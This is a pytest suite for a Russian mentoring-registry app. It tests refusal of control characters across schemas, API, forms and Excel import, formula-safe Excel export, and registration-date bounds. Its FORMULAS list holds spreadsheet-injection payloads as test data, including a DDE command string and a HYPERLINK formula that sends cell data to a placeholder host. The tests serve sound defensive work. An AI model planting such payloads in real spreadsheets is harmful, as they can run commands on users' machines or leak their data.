"""Input hygiene and Excel out (issue 16): control characters are refused with a message naming
the field at every entry (schema, API, page, Excel import); exported text is never a formula;
a registration date before 1900 or years ahead is refused."""

from __future__ import annotations

import copy
import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from marshmallow import Schema, ValidationError
from openpyxl import Workbook, load_workbook
from registry_factory import consent, department, person, school
from webfixtures import login

from docgen import forms
from docgen.errors import FieldErrors, field_paths
from docgen.kinds import catalog
from docgen.kinds.catalog import KINDS
from docgen.registry import consents, groups, people
from docgen.registry import schemas as registry_schemas
from docgen.registry.excel import exporting, importing, register, sheets

pytest_plugins = ["apifixtures"]

CONTROLS = ("\x00", "\x0b", "\x1f")


def string_leaves(value: Any, path: tuple = ()) -> Iterator[tuple]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from string_leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from string_leaves(item, (*path, index))
    elif isinstance(value, str):
        yield path


def with_leaf(data: Any, path: tuple, value: str) -> Any:
    changed = copy.deepcopy(data)
    target = changed
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return changed


def dotted(path: tuple) -> str:
    return ".".join(str(step) for step in path)


def errors_of(schema: Schema, data: dict) -> dict[str, list[str]] | None:
    try:
        schema.load(data)
    except ValidationError as err:
        return field_paths(err.messages)
    return None


def assert_refused(schema: Schema, data: dict, path: tuple, char: str) -> None:
    """A field error naming the field; the control-character message where text is free."""
    value = f"Текст{char}текст"
    errors = errors_of(schema, with_leaf(data, path, value))
    assert errors is not None, f"{dotted(path)} accepted {char!r}"
    assert dotted(path) in errors, (dotted(path), errors)
    if errors_of(schema, with_leaf(data, path, "Текст текст")) is None:
        # The field takes any text: the control character is the only reason.
        assert f"U+{ord(char):04X}" in " ".join(errors[dotted(path)])


# --- the rule, through every schema ------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.slug)
def test_every_text_field_of_every_kind_refuses_control_characters(kind):
    sample = kind.sample()
    leaves = list(string_leaves(sample))
    assert leaves
    for path in leaves:
        for char in CONTROLS:
            assert_refused(kind.form, sample, path, char)


REGISTRY_RECORDS = {
    registry_schemas.OrganisationSchema: {"kind": "school", "full_name": "МБОУ «СОШ № 1»"},
    registry_schemas.PersonSchema: {
        "surname": "Чернова",
        "name": "Наталья",
        "gender": "f",
        "category": "педагог",
    },
    registry_schemas.GroupSchema: {
        "form_code": "teacher_teacher",
        "mentor_id": 1,
        "mentee_ids": [2],
        "start_date": "2024-09-01",
        "end_date": "2025-05-31",
    },
    registry_schemas.CloseGroupSchema: {"result": "Программа выполнена", "closed_on": "2025-05-31"},
    registry_schemas.ConsentSignSchema: {
        "kind": "processing",
        "signed_on": "2024-09-02",
        "signer": "representative",
        "representative_name": "Иванова Ольга Петровна",
        "representative_doc": "свидетельство о рождении",
    },
}
TEXT_FIELDS = (forms.Str, forms.Email)


@pytest.mark.parametrize("schema_class", REGISTRY_RECORDS, ids=lambda cls: cls.__name__)
def test_every_text_field_of_the_registry_refuses_control_characters(schema_class):
    schema = schema_class()
    base = REGISTRY_RECORDS[schema_class]
    assert errors_of(schema, base) is None
    names = [name for name, field in schema.fields.items() if isinstance(field, TEXT_FIELDS)]
    assert names
    for name in names:
        for char in CONTROLS:
            data = {**base, name: base.get(name) or "Текст"}
            assert_refused(schema, data, (name,), char)
            # The registry's own message carries the field's Russian label.
            with pytest.raises(FieldErrors) as err:
                schema.load_or_raise({**data, name: f"А{char}Б"})
            title = schema.fields[name].metadata["title"]
            assert err.value.fields[name][0].startswith(f"{title}: текст содержит")


def test_tab_and_line_breaks_stay_allowed():
    schema = registry_schemas.CloseGroupSchema()
    result = schema.load({"result": "Итоги:\r\n\tпервый\nвторой", "closed_on": "2025-05-31"})
    assert result["result"] == "Итоги:\r\n\tпервый\nвторой"


def test_whitespace_controls_at_the_ends_are_not_stripped_away():
    for value in ("\x0bЧернова", "Чернова\x1f", "Чер\x0bнова"):
        with pytest.raises(FieldErrors) as err:
            registry_schemas.PersonSchema().load_or_raise(
                {**REGISTRY_RECORDS[registry_schemas.PersonSchema], "surname": value}
            )
        assert "управляющий символ" in err.value.fields["surname"][0]


# --- through the API and the pages -------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.slug)
def test_api_names_the_field_of_a_control_character(api, demo_ids, kind):
    client = api("admin")
    org_id = demo_ids["school1"] if "director" in kind.roles else demo_ids["department"]
    sample = kind.sample()
    for index, path in enumerate(string_leaves(sample)):
        char = CONTROLS[index % len(CONTROLS)]
        value = with_leaf(sample, path, f"Текст{char}текст")
        body = {"kind": kind.slug, "input": value, "org_id": org_id}
        response = client.post("/api/preview", json=body)
        assert response.status_code == 422, (dotted(path), response.status_code)
        assert dotted(path) in response.json["fields"], (dotted(path), response.json)


def test_api_registry_writes_name_the_field(api, demo_ids):
    client = api("curator")
    person_body = {
        "surname": "Новикова",
        "name": "Анна",
        "gender": "f",
        "category": "педагог",
    }
    text_fields = (
        "surname",
        "name",
        "patronymic",
        "position",
        "partner_org",
        "email",
        "phone",
        "competences",
        "time_available",
        "request",
    )
    for index, name in enumerate(text_fields):
        char = CONTROLS[index % len(CONTROLS)]
        response = client.post("/api/people", json={**person_body, name: f"Текст{char}"})
        assert response.status_code == 422, (name, response.json)
        assert "управляющий символ" in response.json["fields"][name][0]
    person_id = next(iter(demo_ids["people1"].values()))
    patched = client.patch(f"/api/people/{person_id}", json={"position": "учитель\x00"})
    assert patched.status_code == 422 and "position" in patched.json["fields"]
    signed = client.post(
        f"/api/people/{person_id}/consents/sign",
        json={
            "kind": "dissemination",
            "signed_on": "2024-09-02",
            "signer": "representative",
            "representative_name": "Иванова\x1f Ольга",
            "representative_doc": "паспорт\x0b",
        },
    )
    assert signed.status_code == 422
    assert set(signed.json["fields"]) == {"representative_name", "representative_doc"}
    found = client.get("/api/people", query_string={"category": "педагог\x00"})
    assert found.status_code == 422 and "управляющий символ" in found.json["fields"]["category"][0]


def test_a_bell_typed_in_a_form_is_refused_not_a_paragraph_break(client):
    login(client, "curator")
    response = client.post(
        "/documents/new/pairs-order",
        data={"action": "save", "title": "О закреплении\x07пар"},
    )
    assert response.status_code == 422
    assert "управляющий символ U+0007" in response.get_data(as_text=True)
    added = client.post(
        "/registry/people/new",
        data={"surname": "Ив\x00анов", "name": "Пётр", "gender": "m", "category": "педагог"},
    )
    assert added.status_code == 422
    assert "управляющий символ U+0000" in added.get_data(as_text=True)


# --- through the Excel import ------------------------------------------------------------


def _registry_file(db) -> tuple[int, bytes]:
    """A school with a pair, exported: every sheet has a data row."""
    org = school(db, department(db))
    mentor = person(db, org, "Чернова", "Наталья", "Викторовна", birth_date="1980-05-02")
    mentee = person(db, org, "Петров", "Алексей", "Сергеевич", birth_date="1999-03-12")
    for someone in (mentor, mentee):
        consent(db, someone, "2024-09-02")
    people.update_person(db, mentor, {"is_mentor": True, "competences": "ИКТ"})
    people.update_person(db, mentee, {"is_mentee": True, "request": "адаптация"})
    groups.create_group(
        db,
        org,
        form_code="teacher_teacher",
        mentor_id=mentor,
        mentee_ids=[mentee],
        start_date="2024-09-10",
        end_date="2025-05-31",
    )
    return org, exporting.export_workbook(db, org)


def test_excel_import_names_the_cell_of_a_control_character(db):
    org, content = _registry_file(db)
    target = school(db, None, "МБОУ «СОШ № 2»")
    assert importing.import_workbook(db, target, content, on=dt.date(2024, 9, 10)).ok
    count = 0
    for sheet, columns in sheets.SHEETS.items():
        for key, title, _ in columns:
            char = CONTROLS[count % len(CONTROLS)]
            count += 1
            # Office writes a control character in a cell as _xHHHH_.
            wb = load_workbook(io.BytesIO(content))
            column = sheets.column_letter(columns, key)
            wb[sheet][f"{column}2"] = f"Текст_x{ord(char):04X}_"
            out = io.BytesIO()
            wb.save(out)
            other = school(db, None, f"МБОУ «СОШ № {count + 10}»")
            report = importing.import_workbook(db, other, out.getvalue(), on=dt.date(2024, 9, 10))
            assert not report.written
            assert any(
                e.sheet == sheet
                and e.row == 2
                and e.column == title
                and f"управляющий символ U+{ord(char):04X}" in e.message
                for e in report.errors
            ), (sheet, title, report.messages())
            assert not people.list_people(db, other)
    assert count == sum(len(columns) for columns in sheets.SHEETS.values())


def _replace_part(content: bytes, name: str, data: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for info in source.infolist():
            package.writestr(info, data if info.filename == name else source.read(info))
    return out.getvalue()


def test_an_xml_character_reference_to_a_control_character_is_a_broken_file(db):
    org, content = _registry_file(db)
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    broken = _replace_part(content, "xl/worksheets/sheet1.xml", sheet.replace(b"<t>", b"<t>&#11;"))
    with pytest.raises(FieldErrors) as err:
        importing.import_workbook(db, school(db, None, "МБОУ «СОШ № 2»"), broken)
    assert "повреждён" in err.value.message


# --- Excel out: never a formula ----------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://x?"&A2,"Нажмите")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\tтабуляция",
    "\rвозврат",
)


def _no_formula_cells(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    if cell.value.startswith(sheets.FORMULA_START):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
                    texts.append(cell.value)
    return texts


def _registry_with_formulas(db) -> int:
    org = school(db, department(db))
    mentor = person(db, org, "Чернова", "Наталья", "Викторовна", birth_date="1980-05-02")
    mentee = person(
        db, org, "Петров", "Алексей", "Сергеевич", birth_date="2012-03-12", category="обучающийся"
    )
    consent(db, mentor, "2024-09-02")
    consents.sign_consent(
        db, mentee, "processing", "2024-09-02", "representative", FORMULAS[4], "=свидетельство"
    )
    people.update_person(
        db,
        mentor,
        {
            "is_mentor": True,
            "position": FORMULAS[0],
            "partner_org": FORMULAS[1],
            "phone": FORMULAS[2],
            "competences": FORMULAS[3],
            "time_available": FORMULAS[5],
            "experience_years": 2,
        },
    )
    people.update_person(db, mentee, {"is_mentee": True, "request": FORMULAS[6]})
    group = groups.create_group(
        db,
        org,
        form_code="teacher_student",
        mentor_id=mentor,
        mentee_ids=[mentee],
        start_date="2024-09-10",
        end_date="2025-05-31",
    )
    groups.close_group(db, group, "=1+1", "2025-05-30")
    return org


def test_registry_export_and_register_hold_no_formula_and_keep_the_text(db):
    org = _registry_with_formulas(db)
    exported = exporting.export_workbook(db, org)
    texts = _no_formula_cells(exported)
    for formula in FORMULAS:
        stored = formula.strip() if formula[0] in "\t\r" else formula
        assert stored in texts, stored
    assert "=1+1" in texts
    wb = load_workbook(io.BytesIO(exported))
    column = sheets.column_letter(sheets.PEOPLE_COLUMNS, "experience_years")
    row = next(r for r in range(2, 4) if wb[sheets.PEOPLE][f"A{r}"].value == "Чернова")
    experience = wb[sheets.PEOPLE][f"{column}{row}"]
    assert experience.value == 2 and experience.data_type == "n"
    registered = register.register_workbook(db, org, dt.date(2025, 6, 1))
    texts = _no_formula_cells(registered)
    assert any(FORMULAS[0] in text for text in texts)


def test_an_exported_formula_text_imports_back_as_the_same_text(db):
    org = _registry_with_formulas(db)
    exported = exporting.export_workbook(db, org)
    other = school(db, None, "МБОУ «СОШ № 2»")
    report = importing.import_workbook(db, other, exported, on=dt.date(2024, 9, 10))
    assert report.ok, report.messages()
    mentor = next(p for p in people.list_people(db, other) if p["surname"] == "Чернова")
    assert mentor["position"] == FORMULAS[0]
    assert mentor["partner_org"] == FORMULAS[1]
    assert mentor["competences"] == FORMULAS[3]


def test_a_formula_cell_in_an_imported_file_is_refused_not_evaluated(db):
    org, content = _registry_file(db)
    wb = load_workbook(io.BytesIO(content))
    position = sheets.column_letter(sheets.PEOPLE_COLUMNS, "position")
    wb[sheets.PEOPLE][f"{position}2"] = '=HYPERLINK("http://x","Нажмите")'
    out = io.BytesIO()
    wb.save(out)
    report = importing.import_workbook(db, school(db, None, "МБОУ «СОШ № 2»"), out.getvalue())
    assert not report.written
    assert any(
        "столбец «Должность или класс»" in message and "формулы не принимаются" in message
        for message in report.messages()
    ), report.messages()


def test_save_keeps_numbers_numeric_and_text_as_text():
    wb = Workbook()
    ws = wb.active
    sheets.append(ws, [-2, "-2", "=1+1", 2.5, "#N/A", "обычный текст", "ok\x00"])
    wb2 = load_workbook(io.BytesIO(sheets.save(wb)))
    cells = list(wb2.active.iter_rows())[0]
    assert [c.value for c in cells] == [-2, "-2", "=1+1", 2.5, "#N/A", "обычный текст", "ok"]
    assert [c.data_type for c in cells] == ["n", "s", "s", "n", "s", "s", "s"]
    assert [bool(c.quotePrefix) for c in cells] == [False, True, True, False, False, False, False]


def test_monitoring_report_and_district_table_go_through_the_guard(db):
    from docgen.kinds.reports import xlsx
    from docgen.registry import district, indicators

    org = _registry_with_formulas(db)
    values = indicators.compute(db, [org], dt.date(2025, 6, 1))
    report = xlsx.report_xlsx(values, {"organisation": "=ИМЯ()", "title": "+Отчёт"})
    assert {"=ИМЯ()", "+Отчёт"} <= set(_no_formula_cells(report))
    parent = db["organisations"].get(org)["parent_id"]
    db["organisations"].update(org, {"short_name": "=школа()"})
    table = district.table_xlsx(db, parent, dt.date(2025, 6, 1), catalog.district_requirements())
    assert "=школа()" in _no_formula_cells(table)


# --- registration date bounds ------------------------------------------------------------


def test_api_refuses_a_registration_date_before_1900_and_writes_no_journal(api, api_db_path):
    from docgen.db import connect

    client = api("director")
    body = {"kind": "curator-order", "input": KINDS_BY_SLUG["curator-order"].sample()}
    document_id = client.post("/api/documents", json=body).json["id"]
    for date in ("0039-11-18", "18.11.0039", "1899-12-31"):
        response = client.post(f"/api/documents/{document_id}/register", json={"date": date})
        assert response.status_code == 422, (date, response.json)
        assert "раньше 1900 года" in response.json["fields"]["date"][0]
    db = connect(api_db_path)
    assert db.execute("SELECT count(*) FROM journal WHERE year < 1900").fetchone()[0] == 0
    assert db["documents"].get(document_id)["status"] == "draft"
    db.close()


KINDS_BY_SLUG = {kind.slug: kind for kind in KINDS}
